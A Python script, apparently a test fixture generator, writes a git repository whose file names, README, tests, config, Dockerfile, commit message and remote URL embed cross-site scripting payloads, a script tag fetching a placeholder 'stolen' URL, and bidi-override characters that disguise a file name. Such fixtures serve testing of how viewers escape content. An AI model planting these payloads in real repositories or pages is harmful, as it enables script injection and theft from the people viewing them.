#!/usr/bin/env python3
"""hostile_repository.py FOLDER: writes a git repository whose names and lines try to break out of a page that shows them."""
import pathlib, subprocess, sys

folder = pathlib.Path(sys.argv[1])
attack = "\"'><script>fetch('https://example.org/stolen')</script><img src=x onerror=alert(1)>\u202egnp.exe\u2066"
files = {
    f"src/{attack.replace('/', '_')}.py": (
        f'import mlflow\nmlflow.log_metric("a", 1)  # </code></pre></details>{attack}\n'
        f'from sklearn.linear_model import LogisticRegression\nLogisticRegression().fit([[1]], [1])  # {{{{style}}}} {attack}\n'),
    "README.md": f"# {attack}\n\n## Installation\n\n```sh\npip install -r requirements.txt && python src/train.py '{attack}'\n```\n",
    "requirements.txt": "mlflow==2.1\nscikit-learn==1.3\n",
    f"tests/test_{attack.replace('/', '_')[:40]}.py": f"def test_a():\n    assert 1  # {attack}\n" * 3,
    ".rung.yml": 'name: "</title><script>alert(2)</script>"\n',
    "Dockerfile": f"FROM python:3.11\nCOPY . .\nCMD python '{attack}'\n",
}
for path, text in files.items():
    file = folder / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
run = lambda *words: subprocess.run(["git", "-C", str(folder), *words], check=True, stdout=subprocess.DEVNULL)
run("init", "-q")
run("add", "-A")
run("-c", "user.name=x", "-c", "user.email=x@example.org", "commit", "-q", "-m", attack)
run("remote", "add", "origin", "https://github.com/owner/name'><script>")
